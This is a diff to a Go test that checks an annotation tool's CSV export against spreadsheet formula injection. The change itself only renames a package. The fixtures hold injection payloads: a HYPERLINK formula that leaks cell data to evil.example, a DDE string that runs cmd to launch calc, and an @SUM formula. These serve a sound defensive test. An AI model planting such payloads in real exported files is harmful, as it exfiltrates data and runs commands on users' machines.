@@ -4,8 +4,8 @@ import (
 	"strings"
 	"testing"
 
+	"annotate/internal/domain"
 	"annotate/internal/export"
-	"annotate/internal/tasks"
 )
 
 // Finding 6: explanations and notes that begin like a spreadsheet formula
@@ -14,8 +14,8 @@ func TestCSVCellsAreNotFormulas(t *testing.T) {
 	f := newFixture(t)
 	evil := `=HYPERLINK("http://evil.example/?d="&A1,"Click")`
 	f.label("ann", "s4", false, wrong(evil, "contradiction"))
-	f.must2(f.store.SetGold(f.ctx, f.project.ID, f.sents["s2"][1], f.users["lea"].ID, -1, tasks.GoldDecision{
-		GoldValues: tasks.GoldValues{Label: tasks.LabelUnfaithful, ErrorTypes: []string{"contradiction"}, Explanation: "+1+cmd|' /C calc'!A0", Ambiguous: no()},
+	f.must2(f.store.SetGold(f.ctx, f.project.ID, f.sents["s2"][1], f.users["lea"].ID, -1, domain.GoldDecision{
+		GoldValues: domain.GoldValues{Label: domain.LabelUnfaithful, ErrorTypes: []string{"contradiction"}, Explanation: "+1+cmd|' /C calc'!A0", Ambiguous: no()},
 		Note:       "@SUM(1+1)"}))
 	for _, opt := range []export.Options{
 		{What: export.Raw, Format: export.CSV},
